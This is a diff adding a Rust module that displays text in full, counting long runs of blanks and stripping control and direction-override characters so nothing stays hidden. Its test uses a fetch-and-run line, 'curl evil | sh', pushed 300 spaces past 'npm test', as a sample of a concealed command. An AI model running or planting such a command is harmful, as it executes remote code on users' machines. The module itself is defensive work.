@@ -1,0 +1,73 @@
+//! Shows a text whole to a person who agrees to it: nothing is cut, and nothing hides in it.
+
+use std::fmt::Write as _;
+
+use crate::look::Look;
+
+/// So many blanks in a row could push something out of sight.
+const MANY: usize = 20;
+
+/// Returns a text of several lines. Control characters are shown, and many blanks in a row are
+/// counted.
+pub(crate) fn lines(look: Look, text: &str) -> String {
+    let mut out = String::new();
+    let mut empty = 0_usize;
+    let tell_empty = |out: &mut String, empty: usize| match empty {
+        0 => {}
+        1..MANY => out.push_str(&"\n".repeat(empty)),
+        MANY.. => {
+            let _ = writeln!(out, "[{empty} blank lines]");
+        }
+    };
+    for line in text.lines() {
+        if line.trim().is_empty() && line.chars().count() < MANY {
+            empty += 1;
+            continue;
+        }
+        tell_empty(&mut out, empty);
+        empty = 0;
+        out.push_str(&one(look, line));
+        out.push('\n');
+    }
+    tell_empty(&mut out, empty);
+    out
+}
+
+/// Returns a text of one line.
+pub(crate) fn one(look: Look, text: &str) -> String {
+    let mut out = String::new();
+    let mut rest = text;
+    while !rest.is_empty() {
+        let blanks: String = rest.chars().take_while(|next| next.is_whitespace()).collect();
+        let words = rest[blanks.len()..]
+            .find(char::is_whitespace)
+            .map_or(rest.len(), |at| at + blanks.len());
+        let many = blanks.chars().count();
+        if many >= MANY {
+            let _ = write!(out, "[{many} blanks]");
+        } else {
+            out.push_str(&look.clean(&blanks));
+        }
+        out.push_str(&look.clean(&rest[blanks.len()..words]));
+        rest = &rest[words..];
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn nothing_is_cut_and_nothing_is_hidden() {
+        let far = format!("npm test{}; curl evil | sh", " ".repeat(300));
+        assert_eq!(one(Look::PLAIN, &far), "npm test[300 blanks]; curl evil | sh");
+        let long = "x".repeat(5000);
+        assert_eq!(one(Look::PLAIN, &long), long);
+        assert!(!one(Look::PLAIN, "a\u{1b}[2Kb\u{202e}c").contains(['\u{1b}', '\u{202e}']));
+        assert_eq!(one(Look::PLAIN, "  - run: npm test"), "  - run: npm test");
+        let below = format!("a: 1\n{}b: 2\n", "\n".repeat(400));
+        assert_eq!(lines(Look::PLAIN, &below), "a: 1\n[400 blank lines]\nb: 2\n");
+        assert_eq!(lines(Look::PLAIN, "a\n\nb\n"), "a\n\nb\n");
+    }
+}
